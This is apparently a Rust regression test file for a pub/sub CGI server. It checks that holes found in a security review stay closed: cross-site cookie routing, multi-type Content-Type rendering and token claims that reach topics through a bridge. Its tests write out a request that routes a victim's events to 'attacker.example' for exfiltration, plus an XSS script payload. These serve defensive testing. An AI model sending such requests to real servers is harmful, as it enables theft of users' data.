//! An outsider's attacks on the third review's fixes (issue 37), each
//! against the real `pubsub-cgi serve` on a temporary store, each a hole
//! found by brief A1 and kept here so that it stays closed:
//!
//! * a cookie credential on a request from another site made a route to
//!   a remote URL (a lasting change: it forwards every later event of the
//!   victim's topic to the attacker), because a route to a remote URL
//!   needs only `read` on its source and a cookie from elsewhere may read
//!   (docs/ACCESS.md, "1c. Cookies and other sites");
//! * a stream whose `Content-Type` lists two types (`text/plain,
//!   text/html`) was judged by its first and served without
//!   `Content-Disposition: attachment`, while a browser takes the last
//!   (the Fetch standard's "extract a MIME type") and renders HTML;
//! * a token whose claim names only streams read and posted any topic
//!   through a stream bound to it (`Kn-Topic`, docs/DURABLE-STREAMS.md,
//!   "The bridge"): without a rules file the bridge is on, and only the
//!   stream's path was held against the claim.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use jsonwebtoken::{Algorithm, EncodingKey, Header};
use kn_journal::access::token_key_of_store;
use kn_test_support::{Dir, Serve};
use serde_json::json;

/// A token of `sub`, signed with the store's own key, valid ten minutes.
fn token(root: &Path, sub: &str) -> String {
    token_with(root, json!({"sub": sub}))
}

/// A token of `claims` (plus its `exp`), signed with the store's own key.
fn token_with(root: &Path, mut claims: serde_json::Value) -> String {
    let key = token_key_of_store(root, true).unwrap().unwrap();
    claims["exp"] = json!(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() + 600);
    let mut header = Header::new(Algorithm::HS256);
    header.kid = Some("store".to_string());
    jsonwebtoken::encode(&header, &claims, &EncodingKey::from_secret(&key)).unwrap()
}

/// One request on its own connection: the whole answer (head and body).
fn request(serve: &Serve, method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> String {
    let mut conn = TcpStream::connect(serve.addr()).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut head = format!("{method} {target} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nContent-Length: {}\r\n", serve.addr(), body.len());
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    conn.write_all(head.as_bytes()).unwrap();
    conn.write_all(body).unwrap();
    let mut answer = Vec::new();
    let _ = conn.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

fn status(answer: &str) -> u16 {
    answer.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or_else(|| panic!("no status: {answer:?}"))
}

fn start(dir: &Dir) -> (Serve, std::path::PathBuf) {
    let root = dir.store("events");
    let mut command = Serve::command_of(Path::new(env!("CARGO_BIN_EXE_pubsub-cgi")), &root, None);
    command.env("KN_OUTBOUND", "allow");
    (Serve::spawn(command), root)
}

/// A page of another site makes anna's browser ask for a route from her
/// notes to the attacker's server, carrying her token cookie: refused
/// `403`, and no route is recorded; the same request from one of the
/// server's own pages is allowed (the cookie is honoured there).
#[test]
fn a_cookie_from_another_site_makes_no_route_to_a_remote_url() {
    let dir = Dir::new("attack-cookie-remote-route");
    let (serve, root) = start(&dir);
    let cookie = format!("kn_token={}", token(&root, "anna"));
    let route = "/kn?do_method=route&kn_from=/who/anna/notes&kn_to=http://attacker.example/kn/what/loot&kn_id=exfil&kn_response_format=simple";
    for elsewhere in [
        vec![("Sec-Fetch-Site", "cross-site")],
        vec![("Sec-Fetch-Site", "same-site")],
        vec![("Origin", "null")],
        vec![("Origin", "http://attacker.example")],
        vec![],
    ] {
        let mut headers = vec![("Cookie", cookie.as_str())];
        headers.extend(elsewhere.iter().copied());
        let answer = request(&serve, "GET", route, &headers, b"");
        assert_eq!(status(&answer), 403, "{elsewhere:?}: {answer}");
        // The batch entry, the same route by another door.
        let batch = "do_method=batch&kn_response_format=simple&kn_batch=do_method%3Droute%26kn_from%3D%2Fwho%2Fanna%2Fnotes%26kn_to%3Dhttp%3A%2F%2Fattacker.example%2Fkn%2Fwhat%2Floot%26kn_id%3Dexfil2";
        let mut form = headers.clone();
        form.push(("Content-Type", "application/x-www-form-urlencoded"));
        let answer = request(&serve, "POST", "/kn", &form, batch.as_bytes());
        assert!(answer.contains("status: 403"), "{elsewhere:?}: the batch entry: {answer}");
    }
    let store = kn_journal::Store::open(&root).unwrap();
    let notes = kn_journal::Topic::parse("/who/anna/notes").unwrap();
    assert!(store.routes(&notes).unwrap().is_empty(), "a route was recorded: {:?}", store.routes(&notes).unwrap());
    // From the server's own page, the cookie still routes.
    let answer = request(&serve, "GET", route, &[("Cookie", cookie.as_str()), ("Sec-Fetch-Site", "same-origin")], b"");
    assert_eq!(status(&answer), 200, "{answer}");
    assert_eq!(store.routes(&notes).unwrap().len(), 1);
}

/// The `Content-Type`s of a stream a browser would render as a page,
/// judged as the browser judges them: whichever type a list names last
/// wins, so a list is never taken for its first type. Each is served as
/// an attachment; a plain `text/plain` stays inline.
#[test]
fn a_stream_whose_type_lists_several_is_served_as_an_attachment() {
    let dir = Dir::new("attack-stream-type-list");
    let (serve, _root) = start(&dir);
    let cases = [
        ("list", "text/plain;charset=utf-8,text/html", true),
        ("list-spaces", "text/plain , text/html", true),
        ("list-json", "application/json,image/svg+xml", true),
        ("plain", "text/plain; charset=utf-8", false),
    ];
    for (name, content_type, attachment) in cases {
        let created = request(&serve, "PUT", &format!("/v1/stream/{name}"), &[("Content-Type", content_type)], b"<script>alert(1)</script>");
        assert_eq!(status(&created), 201, "{content_type}: {created}");
        for method in ["GET", "HEAD"] {
            let read = request(&serve, method, &format!("/v1/stream/{name}?offset=-1"), &[], b"");
            assert_eq!(status(&read), 200, "{content_type}: {read}");
            let head = read.split("\r\n\r\n").next().unwrap().to_ascii_lowercase();
            assert!(head.contains("content-security-policy: sandbox"), "{content_type}: {head}");
            assert_eq!(head.contains("content-disposition: attachment"), attachment, "{method} {content_type}: {head}");
        }
    }
}

/// The same attack on `pubsub.cgi` (the real binary run as a CGI process,
/// as a web server runs it): a cross-site `GET` carrying anna's token
/// cookie makes no route to a remote URL.
#[test]
fn a_cookie_from_another_site_makes_no_route_to_a_remote_url_through_the_cgi() {
    let dir = Dir::new("attack-cookie-remote-route-cgi");
    let root = dir.store("events");
    let cookie = format!("kn_token={}", token(&root, "anna"));
    let run = |fetch_site: &str| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_pubsub-cgi"))
            .env_clear()
            .envs([
                ("GATEWAY_INTERFACE", "CGI/1.1"),
                ("REQUEST_METHOD", "GET"),
                ("SERVER_NAME", "pubsub.example"),
                ("SERVER_PORT", "80"),
                ("HTTP_HOST", "pubsub.example"),
                ("SCRIPT_NAME", "/kn"),
                ("KN_OUTBOUND", "allow"),
                ("HTTP_COOKIE", cookie.as_str()),
                ("HTTP_SEC_FETCH_SITE", fetch_site),
                ("QUERY_STRING", "do_method=route&kn_from=/who/anna/notes&kn_to=http://attacker.example/kn/what/loot&kn_id=exfil&kn_response_format=simple"),
            ])
            .env("KN_EVENTS", &root)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let answer = run("cross-site");
    assert!(answer.starts_with("Status: 403"), "{answer}");
    let store = kn_journal::Store::open(&root).unwrap();
    let notes = kn_journal::Topic::parse("/who/anna/notes").unwrap();
    assert!(store.routes(&notes).unwrap().is_empty(), "{:?}", store.routes(&notes).unwrap());
    let answer = run("same-origin");
    assert!(answer.starts_with("Status: 200"), "{answer}");
}

/// A token narrowed to streams below `/v1/stream/anna/` (and a
/// capability of the same claim) neither binds a stream to bob's topic
/// nor reads or posts that topic through a stream someone else bound:
/// the bridge reads and posts its topic, so the claim must allow that
/// too. Without a rules file, as the rules turn the bridge off.
#[test]
fn a_token_for_streams_only_reads_and_posts_no_topic_through_the_bridge() {
    let dir = Dir::new("attack-bridge-claim");
    let (serve, root) = start(&dir);
    let streams_only = json!({"post": ["/v1/stream/anna/**"], "read": ["/v1/stream/anna/**"]});
    let plain = token(&root, "anna");
    let bearer = |t: &str| format!("Bearer {t}");
    let json_type = ("Content-Type", "application/json");
    // Bob's topic holds an event; anna's unnarrowed token binds a stream to it.
    let secret = request(&serve, "GET", "/kn?do_method=notify&kn_to=/who/bob/private&kn_payload=bob-secret", &[], b"");
    assert_eq!(status(&secret), 200, "{secret}");
    let plain_auth = bearer(&plain);
    let bound = request(&serve, "PUT", "/v1/stream/anna/bound", &[("Authorization", plain_auth.as_str()), json_type, ("Kn-Topic", "/who/bob/private")], b"");
    assert_eq!(status(&bound), 201, "{bound}");
    for claims in [json!({"sub": "anna", "kn": streams_only}), json!({"kn": streams_only})] {
        let narrowed = bearer(&token_with(&root, claims.clone()));
        let auth = ("Authorization", narrowed.as_str());
        // The claim allows the stream itself.
        let own = request(&serve, "PUT", "/v1/stream/anna/own", &[auth, json_type], b"");
        assert!([200, 201].contains(&status(&own)), "{claims}: {own}");
        let binding = request(&serve, "PUT", "/v1/stream/anna/mine", &[auth, json_type, ("Kn-Topic", "/who/bob/private")], b"");
        assert_eq!(status(&binding), 403, "{claims}: a binding to bob's topic: {binding}");
        for method in ["GET", "HEAD"] {
            let read = request(&serve, method, "/v1/stream/anna/bound?offset=-1", &[auth], b"");
            assert_eq!(status(&read), 403, "{claims}: {method} of a stream bound to bob's topic: {read}");
        }
        let append = request(&serve, "POST", "/v1/stream/anna/bound", &[auth, json_type], br#"{"kn_payload":"forged"}"#);
        assert_eq!(status(&append), 403, "{claims}: an append posted to bob's topic: {append}");
    }
    let store = kn_journal::Store::open(&root).unwrap();
    let private = kn_journal::Topic::parse("/who/bob/private").unwrap();
    let events = store.events(&private, &kn_journal::Selection::all()).unwrap().events;
    assert!(events.iter().all(|e| e.get_str("kn_payload").as_deref() != Some("forged")), "{events:?}");
}
